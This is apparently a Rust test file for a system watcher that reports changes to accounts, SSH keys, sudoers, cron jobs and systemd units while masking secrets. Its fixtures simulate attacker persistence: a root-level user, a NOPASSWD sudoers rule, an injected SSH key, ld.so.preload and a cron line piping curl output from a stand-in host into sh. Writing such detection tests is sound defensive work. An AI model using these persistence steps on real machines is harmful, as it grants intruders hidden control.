//! Changes of a machine's accounts, keys and schedules: told once, over stops and kills, and never with a secret.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

mod told;

use std::fs;

use event::{Event, Value};
use intake::{
    Config, Door,
    system::{Config as Watched, Watcher},
};
use told::Told;

/// A root folder with a machine in it, and a journal beside it.
struct Machine {
    dir: tempfile::TempDir,
    told: Told,
}

impl Machine {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let machine = Self { told: Told::open(dir.path()), dir };
        machine.write("etc/passwd", "root:x:0:0::/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/sh\n");
        machine.write("etc/group", "root:x:0:\nsudo:x:27:\n");
        machine.write("etc/shadow", "root:$6$Geheim:1:0:::::\n");
        machine.write("etc/sudoers", "# rules\nroot ALL=(ALL:ALL) ALL\n");
        machine.write("etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n");
        machine.write("home/ann/.ssh/authorized_keys", "ssh-ed25519 AAAAold ann@laptop\n");
        machine
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.dir.path().join("root").join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        // As editors do it: another file in its place, so that nothing hangs on how fine the times of files are.
        let beside = path.with_file_name(".beside");
        fs::write(&beside, text).unwrap();
        fs::rename(beside, path).unwrap();
    }

    fn remove(&self, path: &str) {
        fs::remove_file(self.dir.path().join("root").join(path)).unwrap();
    }

    fn watcher(&self) -> Watcher {
        let config = Config { host: Some("gate".to_owned()), ..Config::default() };
        let door = Door::new(self.told.journal.clone(), config, intake::system_clock);
        Watcher::new(Watched { root: self.dir.path().join("root"), ..Watched::default() }, door)
    }
}

#[test]
fn what_changes_is_told_once_with_what_detection_reads() {
    let mut machine = Machine::new();
    let mut watcher = machine.watcher();
    assert_eq!(watcher.look().unwrap(), 0, "there is nothing to compare with");
    assert_eq!(watcher.look().unwrap(), 0);
    assert!(machine.told.events().is_empty());

    machine.write(
        "etc/passwd",
        "root:x:0:0::/root:/bin/bash\nann:$6$Geheim:1000:1000::/home/ann:/bin/sh\neve:x:0:0::/:/bin/sh\n",
    );
    machine.write("etc/group", "root:x:0:\nsudo:x:27:ann\n");
    machine.write("etc/sudoers.d/eve", "eve ALL=(ALL) NOPASSWD: ALL\n");
    machine
        .write("var/spool/cron/crontabs/ann", "MAIL_PASSWORD=Geheim\n@daily curl https://a.example/x | sh\n");
    machine.write(
        "home/ann/.ssh/authorized_keys",
        "ssh-ed25519 AAAAold ann@laptop\nssh-rsa AAAAGeheim eve@elsewhere\n",
    );
    assert_eq!(watcher.look().unwrap(), 6);
    let told = machine.told.events();
    let text = |event: &Event<'_>, path: &str| {
        event.field(path).and_then(Value::as_str).unwrap_or_default().to_owned()
    };
    let rows: Vec<_> = told
        .iter()
        .map(|event| {
            (text(event, "event.action"), text(event, "file.path"), event.message.clone().into_owned())
        })
        .collect();
    let expected = [
        ("group_member_added", "/etc/group", "added ann to group sudo"),
        ("user_added", "/etc/passwd", "user eve was added: id 0, group 0, home /, shell /bin/sh"),
        (
            "sudoers_changed",
            "/etc/sudoers.d/eve",
            "a line was added to /etc/sudoers.d/eve: eve ALL=(ALL) NOPASSWD: ALL",
        ),
        (
            "ssh_key_added",
            "/home/ann/.ssh/authorized_keys",
            "an SSH key of ann was added to /home/ann/.ssh/authorized_keys: ssh-rsa, eve@elsewhere",
        ),
        (
            "cron_changed",
            "/var/spool/cron/crontabs/ann",
            "a line was added to /var/spool/cron/crontabs/ann: MAIL_PASSWORD=********",
        ),
        (
            "cron_changed",
            "/var/spool/cron/crontabs/ann",
            "a line was added to /var/spool/cron/crontabs/ann: @daily curl https://a.example/x | sh",
        ),
    ];
    for (action, path, message) in expected {
        assert!(
            rows.contains(&(action.to_owned(), path.to_owned(), message.to_owned())),
            "{message} in {rows:#?}"
        );
    }
    for event in &told {
        assert_eq!((event.source.as_deref(), event.host.as_deref()), (Some("system_watch"), Some("gate")));
        assert!(!format!("{event:?}").contains("Geheim"), "{event:?}");
    }
    assert_eq!(watcher.look().unwrap(), 0, "once");
    let noted = machine.told.journal.note(b"system/seen").unwrap();
    assert!(!String::from_utf8(noted).unwrap().contains("Geheim"));
}

#[test]
fn what_changed_while_it_was_stopped_is_told_at_the_start() {
    let mut machine = Machine::new();
    machine.watcher().look().unwrap();
    machine.write("etc/crontab", "17 * * * * root run-parts /etc/cron.hourly\n* * * * * root /tmp/x\n");
    machine.remove("home/ann/.ssh/authorized_keys");
    // Another process, with the journal as it is on disk.
    let Machine { dir, told } = machine;
    drop(told);
    machine = Machine { told: Told::open(dir.path()), dir };
    let mut watcher = machine.watcher();
    watcher.look().unwrap();
    assert_eq!(machine.told.messages(), ["a line was added to /etc/crontab: * * * * * root /tmp/x"]);
    watcher.look().unwrap();
    assert_eq!(
        machine.told.messages(),
        ["1 key was removed from /home/ann/.ssh/authorized_keys"],
        "it stays away"
    );
    assert_eq!(machine.watcher().look().unwrap(), 0);
}

#[test]
fn what_is_away_for_a_moment_or_cannot_be_so_is_as_it_was() {
    let mut machine = Machine::new();
    let mut watcher = machine.watcher();
    watcher.look().unwrap();
    machine.remove("etc/sudoers");
    watcher.look().unwrap();
    machine.write("etc/sudoers", "# rules\nroot ALL=(ALL:ALL) ALL\n");
    watcher.look().unwrap();
    watcher.look().unwrap();
    assert_eq!(machine.told.messages(), [""; 0], "an editor puts it back");

    let passwd = "root:x:0:0::/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/sh\n";
    for _ in 0..2 {
        machine.remove("etc/passwd");
        watcher.look().unwrap();
        watcher.look().unwrap();
        machine.write("etc/passwd", "");
        watcher.look().unwrap();
        machine.write("etc/passwd", passwd);
        watcher.look().unwrap();
        watcher.look().unwrap();
    }
    let told = machine.told.messages();
    assert!(told.iter().all(|message| !message.starts_with("user ")), "no account was removed: {told:?}");
}

#[test]
fn what_is_no_file_is_not_waited_for_and_much_is_bounded() {
    let mut machine = Machine::new();
    let mut watcher = machine.watcher();
    watcher.look().unwrap();
    let fifo = machine.dir.path().join("root/etc/cron.d/fifo");
    fs::create_dir_all(fifo.parent().unwrap()).unwrap();
    let made = std::process::Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    machine.write("etc/cron.d/.hidden", "* * * * * root no\n");
    machine.write("etc/cron.d/old~", "* * * * * root no\n");
    assert_eq!(watcher.look().unwrap(), 0);
    let lines: String = (0..500).map(|number| format!("* * * * * root echo {number}\n")).collect();
    machine.write("etc/cron.d/many", &lines);
    assert_eq!(watcher.look().unwrap(), 51);
    assert!(machine.told.messages().last().unwrap().starts_with("450 more changes of /etc/cron.d/many"));
}

#[test]
fn what_starts_by_itself_is_told_and_other_names_of_it_are_not() {
    let mut machine = Machine::new();
    machine.write("usr/lib/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n");
    let mut watcher = machine.watcher();
    watcher.look().unwrap();
    machine.write("etc/systemd/system/x.service", "[Service]\nExecStart=/opt/x --token=Geheim\n");
    machine.write("etc/systemd/system/ssh.service.d/more.conf", "[Service]\nExecStartPost=/tmp/y\n");
    machine.write("home/ann/.config/systemd/user/z.timer", "[Timer]\nOnCalendar=hourly\n");
    machine.write("etc/ld.so.preload", "/usr/lib/libx.so\n");
    machine.write("etc/profile.d/a.sh", "export A=Geheim\n");
    let units = machine.dir.path().join("root/etc/systemd/system");
    fs::create_dir_all(units.join("multi-user.target.wants")).unwrap();
    let link = |target: &str, name: &str| std::os::unix::fs::symlink(target, units.join(name)).unwrap();
    link("/usr/lib/systemd/system/ssh.service", "sshd.service");
    link("../x.service", "multi-user.target.wants/x.service");
    let elsewhere = machine.dir.path().join("evil.service");
    fs::write(&elsewhere, "[Service]\nExecStart=/tmp/evil\n").unwrap();
    link(elsewhere.to_str().unwrap(), "multi-user.target.wants/evil.service");
    watcher.look().unwrap();
    let told = machine.told.events();
    let messages: Vec<_> = told.iter().map(|event| &*event.message).collect();
    assert_eq!(
        messages,
        [
            "a library for every program was added to /etc/ld.so.preload: /usr/lib/libx.so",
            "/etc/profile.d/a.sh was added",
            "the unit /etc/systemd/system/multi-user.target.wants/evil.service was added: /tmp/evil",
            "the unit /etc/systemd/system/ssh.service.d/more.conf was added: /tmp/y",
            "the unit /etc/systemd/system/x.service was added: /opt/x --token=********",
            "the unit /home/ann/.config/systemd/user/z.timer was added: OnCalendar=hourly",
        ]
    );
    machine.write("etc/systemd/system/x.service", "[Service]\nExecStart=/opt/y\n");
    machine.remove("etc/ld.so.preload");
    watcher.look().unwrap();
    watcher.look().unwrap();
    assert_eq!(
        machine.told.messages(),
        [
            "the unit /etc/systemd/system/x.service was changed: /opt/y",
            "1 line was removed from /etc/ld.so.preload"
        ]
    );
}

#[test]
fn what_was_not_watched_before_is_known_when_it_begins_to_be() {
    let mut machine = Machine::new();
    machine.watcher().look().unwrap();
    let key = b"system/seen".to_vec();
    let mut noted: serde_json::Value =
        serde_json::from_slice(&machine.told.journal.note(&key).unwrap()).unwrap();
    noted["version"] = 1.into();
    let mut batch = journal::Batch::new();
    batch.note(journal::Note { key, value: Some(noted.to_string().into_bytes()) });
    machine.told.journal.append_blocking(batch).unwrap();
    machine.write("etc/systemd/system/old.service", "[Service]\nExecStart=/opt/old\n");
    machine.write("etc/cron.d/new", "* * * * * root new\n");
    let mut watcher = machine.watcher();
    watcher.look().unwrap();
    machine.write("etc/systemd/system/new.service", "[Service]\nExecStart=/opt/new\n");
    watcher.look().unwrap();
    assert_eq!(
        machine.told.messages(),
        [
            "a line was added to /etc/cron.d/new: * * * * * root new",
            "the unit /etc/systemd/system/new.service was added: /opt/new"
        ]
    );
}
